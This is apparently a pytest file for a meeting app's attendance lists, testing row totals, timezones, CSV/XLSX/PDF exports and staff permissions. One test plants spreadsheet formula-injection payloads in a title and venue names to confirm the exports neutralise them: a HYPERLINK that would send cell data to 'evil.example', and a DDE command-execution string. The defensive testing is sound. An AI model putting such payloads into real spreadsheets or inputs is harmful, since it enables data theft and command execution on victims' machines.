"""Daftar hadir: rows and totals, CSV/XLSX/PDF read back, and the staff attendance page."""

from __future__ import annotations

import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest
from openpyxl import load_workbook
from pypdf import PdfReader

from meetcoord.access.actors import Actor
from meetcoord.checkin import exports, keys, list_pdf
from meetcoord.checkin.admission import check_out
from meetcoord.checkin.desk import redeem_credential
from meetcoord.checkin.lists import attendance_lists
from meetcoord.checkin.models import Attendance, CheckinConflict, CheckinMethod
from meetcoord.checkin.offline import upload_offline
from meetcoord.core.db import utcnow
from meetcoord.directory.models import Gender, StakeholderCategory
from tests import factories
from tests.helpers import count, text

T0 = datetime(2024, 3, 15, 1, 5, tzinfo=UTC)  # 09.05 WITA, 10.05 WIT


@pytest.fixture
def editor():
    return factories.user("secretariat")


@pytest.fixture
def meeting(editor):
    m = factories.meeting(
        by=editor,
        title="Rakor Forum BangKIT",
        venue=factories.venue(name="Aula Bappeda SBD", timezone="Asia/Makassar"),
        sites=[factories.venue(name="Kantor Gubernur Maluku", timezone="Asia/Jayapura")],
        start_at="2024-03-15T09:00",
        end_at="2024-03-15T12:00",
    )
    dinas = factories.organization(name="Dinas Pertanian Kabupaten SBD")
    ayu = factories.person(
        name="Ni Luh Putu Ayu D'Souza",
        gender=Gender.FEMALE,
        category=StakeholderCategory.WOMEN_LEADER,
        has_disability=True,
        organization=dinas,
        position="Ketua PKK",
    )
    theo = factories.person(
        name="Théo Rumbekwan", category=StakeholderCategory.ACADEMIA, position="Dosen"
    )
    kadis = factories.person(name="Ir. Yohanes Bili", organization=dinas, phone="0812-3456-7890")
    online = factories.person(name="Maria Daring", gender=Gender.FEMALE)
    absent = factories.person(name="Belum Datang")
    for guest in (ayu, kadis, absent):
        factories.invitation(m, person=guest, site=m.sites[0])
    factories.invitation(m, person=theo, site=m.sites[1])
    factories.invitation(m, person=online, online=True)
    return factories.schedule(m)


def inv_of(meeting, name):
    return next(i for i in meeting.invitations if i.person.name == name)


@pytest.fixture
def attended(editor, meeting):
    """Ayu at WITA (out at 11.30), Théo at WIT, a stand-in for the Kadis, a walk-in, online."""
    desk = Actor(user=editor)
    wita, wit = meeting.sites
    ayu = inv_of(meeting, "Ni Luh Putu Ayu D'Souza")
    redeem_credential(desk, wita, keys.credential_for(ayu), "n1", scanned_at=T0)
    theo = inv_of(meeting, "Théo Rumbekwan")
    redeem_credential(desk, wit, keys.credential_for(theo), "n2", scanned_at=T0)
    # The rest as rows at that day's times (the phones' own rules: test_selfcheckin).
    factories.attendance(
        inv_of(meeting, "Ir. Yohanes Bili"),
        at=T0 + timedelta(minutes=10),
        method=CheckinMethod.KIOSK_CONFIRMED,
        stand_in_name="Drs. Umbu Rehi",
        stand_in_position="Sekdis",
    )
    walk_in = factories.person(name="=Lalu Ahmad", category=StakeholderCategory.COMMUNITY_LEADER)
    factories.attendance(
        at=T0 + timedelta(minutes=20),
        meeting_id=meeting.id,
        person_id=walk_in.id,
        site_id=wita.id,
        method=CheckinMethod.WALK_IN,
        is_walk_in=True,
        walk_in_organization="HIMASPI",
    )
    online = inv_of(meeting, "Maria Daring")
    factories.attendance(online, at=T0 + timedelta(minutes=30), method=CheckinMethod.ONLINE)
    attendance = Attendance.query.filter_by(person_id=ayu.person_id).one()
    check_out(attendance)
    attendance.checked_out_at = datetime(2024, 3, 15, 3, 30, tzinfo=UTC)
    return meeting


def test_rows_per_site_and_combined(attended):
    lists = attendance_lists(attended)
    wita, wit, online = lists.sites
    assert [r.name for r in wita.rows][:1] == ["Ni Luh Putu Ayu D'Souza"]
    ayu = wita.rows[0]
    assert (ayu.number, ayu.time_in, ayu.time_out) == (1, "09.05 WITA", "11.30 WITA")
    assert (ayu.organization, ayu.position, ayu.gender_short) == (
        "Dinas Pertanian Kabupaten SBD",
        "Ketua PKK",
        "P",
    )
    assert ayu.category_label == "Tokoh perempuan"
    [theo] = wit.rows
    assert (theo.time_in, theo.site_name, theo.gender_short) == (
        "10.05 WIT",
        "Kantor Gubernur Maluku",
        "L",
    )
    kadis = next(r for r in wita.rows if r.name == "Ir. Yohanes Bili")
    assert kadis.stand_in == "diwakili oleh Drs. Umbu Rehi (Sekdis)"
    walk = next(r for r in wita.rows if r.is_walk_in)
    assert (walk.organization, walk.category, walk.method) == (
        "HIMASPI",
        "community_leader",
        "walk_in",
    )
    assert [r.number for r in wita.rows] == [1, 2, 3]
    assert (online.site_key, [r.name for r in online.rows]) == ("online", ["Maria Daring"])
    assert (wita.day, wita.time, wit.time) == (
        "Jumat, 15 Maret 2024",
        "09.00–12.00 WITA",
        "10.00–13.00 WIT",
    )
    combined = lists.combined
    assert [r.number for r in combined.rows] == [1, 2, 3, 4, 5]
    t = combined.totals
    assert (t.total, t.disability, t.walk_ins, t.stand_ins, t.checked_out) == (5, 1, 1, 1, 1)
    assert t.by_gender == {"male": 3, "female": 2, "unknown": 0}
    assert t.by_category["women_leader"] == 1
    assert t.by_category["academia"] == 1
    assert t.by_category["community_leader"] == 1
    assert t.by_category["government"] == 2
    assert ("Tokoh perempuan", 1) in t.category_rows()
    assert wit.totals.total == 1


def test_a_time_on_another_day_carries_its_date(auth, client, meeting):
    """An attendance recorded before the window existed (a click eight days early) is
    never shown as a bare time under the meeting's day; on the day, the time alone."""
    early = factories.attendance(
        inv_of(meeting, "Maria Daring"),
        at=datetime(2024, 3, 6, 18, 59, tzinfo=UTC),  # 01.59 WIB / 02.59 WITA on the 7th
        method=CheckinMethod.ONLINE,
    )
    late_night = factories.attendance(
        inv_of(meeting, "Théo Rumbekwan"), at=datetime(2024, 3, 15, 15, 30, tzinfo=UTC)
    )  # 00.30 WIT on the 16th, still the 15th in WITA
    on_the_day = factories.attendance(inv_of(meeting, "Ir. Yohanes Bili"), at=T0)
    early.checked_out_at = datetime(2024, 3, 15, 2, 0, tzinfo=UTC)
    lists = attendance_lists(meeting)
    rows = {row.attendance_id: row for row in lists.combined.rows}
    assert (rows[early.id].time_in, rows[early.id].time_out) == (
        "07-03-2024 02.59 WITA",
        "10.00 WITA",
    )
    assert rows[late_night.id].time_in == "16-03-2024 00.30 WIT"
    assert rows[on_the_day.id].time_in == "09.05 WITA"
    csv_text = exports.to_csv(lists.combined).decode("utf-8-sig")
    assert "07-03-2024 02.59 WITA" in csv_text
    auth.login("viewer")
    assert "16-03-2024 00.30 WIT" in text(page(client, meeting))


def test_csv_reads_back(attended):
    lists = attendance_lists(attended)
    data = exports.to_csv(lists.sites[0])
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))
    assert rows[0][:6] == ["No", "Nama", "Instansi", "Jabatan", "Kategori", "L/P"]
    assert rows[1][:9] == [
        "1",
        "Ni Luh Putu Ayu D'Souza",
        "Dinas Pertanian Kabupaten SBD",
        "Ketua PKK",
        "Tokoh perempuan",
        "P",
        "Aula Bappeda SBD",
        "09.05 WITA",
        "11.30 WITA",
    ]
    assert rows[1][12] == "Ya"  # disability
    walk = next(r for r in rows if r[11] == "Ya")
    assert walk[1] == "'=Lalu Ahmad"  # never a formula in Excel
    assert any(r[10] == "diwakili oleh Drs. Umbu Rehi (Sekdis)" for r in rows)
    assert len(rows) == 4


def test_xlsx_reads_back(attended):
    lists = attendance_lists(attended)
    book = load_workbook(io.BytesIO(exports.to_xlsx(lists)))
    assert book.sheetnames == [
        "Aula Bappeda SBD",
        "Kantor Gubernur Maluku",
        "Daring",
        "Gabungan",
        "Rekap",
    ]
    wit = book["Kantor Gubernur Maluku"]
    assert wit["A1"].value == "DAFTAR HADIR"
    assert wit["B4"].value == "Jumat, 15 Maret 2024"
    assert [c.value for c in wit[8]][:2] == [1, "Théo Rumbekwan"]
    assert wit["H8"].value == "10.05 WIT"
    combined = book["Gabungan"]
    assert [combined.cell(row=r, column=1).value for r in range(8, 13)] == [1, 2, 3, 4, 5]
    recap = {row[0]: row[1:] for row in book["Rekap"].iter_rows(min_row=4, values_only=True) if row}
    assert recap["Jumlah hadir"] == (3, 1, 1, 5)
    assert recap["Perempuan"][-1] == 2
    assert recap["Penyandang disabilitas"][-1] == 1


def test_no_xlsx_cell_is_a_formula_headings_included(attended):
    """The title and venue names are typed by people: in the heading rows, the sheet's
    recap and the data rows alike, a leading = + - @ tab or CR starts no formula."""
    attended.title = '=HYPERLINK("http://evil.example/?"&A8,"Klik")'
    attended.sites[0].venue.name = "+SUM(1;2)"
    attended.sites[1].venue.name = "@cmd|' /C calc'!A0"
    inv_of(attended, "Théo Rumbekwan").person.position = "-2+3"
    inv_of(attended, "Ir. Yohanes Bili").person.organization.name = "\tDinas"
    lists = attendance_lists(attended)
    for data in (exports.to_xlsx(lists), exports.to_xlsx_one(lists.sites[1])):
        book = load_workbook(io.BytesIO(data))
        cells = [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]
        assert [c.coordinate for c in cells if c.data_type == "f"] == []
        texts = {c.value for c in cells if isinstance(c.value, str)}
        assert "'@cmd|' /C calc'!A0" in texts
        assert not any(t.startswith(exports.FORMULA_STARTS) for t in texts)
    book = load_workbook(io.BytesIO(exports.to_xlsx(lists)))
    assert book.worksheets[0]["A2"].value == "'" + attended.title
    assert book.worksheets[0]["B3"].value == "'+SUM(1;2)"
    rows = list(
        csv.reader(io.StringIO(exports.to_csv(lists.combined).decode("utf-8-sig")), delimiter=";")
    )
    assert not any(value.startswith(exports.FORMULA_STARTS) for row in rows for value in row)


def test_pdf_opens_with_names_pages_and_totals(attended):
    lists = attendance_lists(attended)
    data = list_pdf.to_pdf(
        lists.sites, institution="Bappeda Kabupaten Sumba Barat Daya", combined=lists.combined
    )
    reader = PdfReader(io.BytesIO(data))
    content = "\n".join(page.extract_text() for page in reader.pages)
    flat = re.sub(r"\s+", " ", content)
    assert "BAPPEDA KABUPATEN SUMBA BARAT DAYA" in flat
    assert "DAFTAR HADIR" in flat
    n = len(reader.pages)
    assert n >= 3
    for needle in (
        "Ni Luh Putu Ayu D'Souza",
        "Théo Rumbekwan",
        "Jumat, 15 Maret 2024",
        "09.05 WITA",
        "10.05 WIT",
        "11.30 WITA",
        "diwakili oleh Drs. Umbu Rehi",
        "Tanda tangan",
        f"Halaman 1 dari {n}",
        f"Halaman {n} dari {n}",
        "Rekapitulasi seluruh lokasi",
        "Tokoh perempuan",
        "Jumlah hadir",
    ):
        assert needle in flat, needle
    fonts = {
        str(f["/BaseFont"])
        for page in reader.pages
        for f in page["/Resources"]["/Font"].get_object().values()
    }
    assert any("MeetcoordSans" in name or "DejaVu" in name or "Vera" in name for name in fonts)


def test_empty_list_still_renders(meeting):
    lists = attendance_lists(meeting)
    assert lists.combined.totals.total == 0
    reader = PdfReader(io.BytesIO(list_pdf.to_pdf([lists.combined], institution="Bappeda")))
    assert "Belum ada peserta" in reader.pages[0].extract_text()


# --- the staff page -----------------------------------------------------------------------


def page(client, meeting):
    return client.get(f"/meetings/{meeting.id}/attendance")


def test_page_shows_lists_presence_and_conflicts(auth, client, editor, attended):
    desk = Actor(user=editor)
    wita = attended.sites[0]
    theo = inv_of(attended, "Théo Rumbekwan")
    upload_offline(
        desk,
        wita,
        [
            {
                "credential": keys.credential_for(theo),
                "nonce": "late",
                "scanned_at": "2024-03-15T09:30+08:00",
            }
        ],
    )
    assert count(CheckinConflict) == 1
    auth.login("viewer")
    html = text(page(client, attended))
    assert "Ni Luh Putu Ayu D&#39;Souza" in html
    assert "Théo Rumbekwan" in html
    assert "diwakili oleh Drs. Umbu Rehi" in html
    assert "walk-in" in html
    assert "09.05 WITA" in html
    assert 'class="conflicts"' in html
    assert "/resolve" not in html  # a viewer reads; only editors act
    assert "/checkout" not in html
    assert f"/meetings/{attended.id}/attendance/all.pdf" in html


def test_viewer_cannot_act_and_anonymous_is_sent_to_login(auth, client, attended):
    assert page(client, attended).status_code == 302
    auth.login("viewer")
    inv = inv_of(attended, "Belum Datang")
    response = auth.post(
        f"/meetings/{attended.id}/attendance/checkin",
        {"invitation_id": inv.id, "site_id": attended.sites[0].id, "nonce": "m1"},
    )
    assert response.status_code == 403
    assert count(Attendance, Attendance.person_id == inv.person_id) == 0


def test_manual_checkin_checkout_and_resolve(auth, client, editor, attended):
    auth.login("secretariat")
    detail = text(client.get(f"/meetings/{attended.id}?tab=checkin"))
    assert f"/meetings/{attended.id}/attendance" in detail  # linked from the meeting
    html = text(page(client, attended))
    assert "Belum Datang" in html  # among those not yet present
    inv = inv_of(attended, "Belum Datang")
    url = f"/meetings/{attended.id}/attendance/checkin"
    body = {"invitation_id": inv.id, "site_id": attended.sites[0].id, "nonce": "m0"}
    closed = auth.client.get(auth.post(url, body).headers["Location"])
    assert "Registrasi kehadiran sudah ditutup pada Jumat, 15 Maret 2024 pukul 13.00 WITA" in text(
        closed
    )
    assert count(Attendance, Attendance.person_id == inv.person_id) == 0
    # The same meeting held today: ticking a name is what check-in is open for.
    attended.start_at = utcnow() - timedelta(minutes=30)
    attended.end_at = attended.start_at + timedelta(hours=3)
    body["nonce"] = "m1"
    assert auth.post(url, body).status_code == 302
    assert auth.post(url, body).status_code == 302  # a double click: one attendance
    attendance = Attendance.query.filter_by(person_id=inv.person_id).one()
    assert attendance.method.value == "manual"
    out = f"/meetings/{attended.id}/attendance/{attendance.id}/checkout"
    assert auth.post(out).status_code == 302
    assert attendance.checked_out_at is not None
    theo = inv_of(attended, "Théo Rumbekwan")
    upload_offline(
        Actor(user=editor),
        attended.sites[0],
        [
            {
                "credential": keys.credential_for(theo),
                "nonce": "late",
                "scanned_at": (attended.start_at + timedelta(minutes=5)).isoformat(),
            }
        ],
    )
    conflict = CheckinConflict.query.one()
    assert "Tandai selesai" in text(page(client, attended))
    resolve = f"/meetings/{attended.id}/attendance/conflicts/{conflict.id}/resolve"
    assert auth.post(resolve).status_code == 302
    assert conflict.resolved_at is not None


@pytest.mark.parametrize("fmt", ["csv", "xlsx", "pdf"])
def test_downloads(auth, client, attended, fmt):
    auth.login("viewer")
    site = attended.sites[1]
    response = client.get(f"/meetings/{attended.id}/attendance/{site.id}.{fmt}")
    assert response.status_code == 200
    assert "attachment" in response.headers["Content-Disposition"]
    assert f".{fmt}" in response.headers["Content-Disposition"]
    combined = client.get(f"/meetings/{attended.id}/attendance/all.{fmt}")
    assert combined.status_code == 200
    if fmt == "csv":
        assert "Théo Rumbekwan" in response.get_data().decode("utf-8-sig")
    assert client.get(f"/meetings/{attended.id}/attendance/999999.{fmt}").status_code == 404
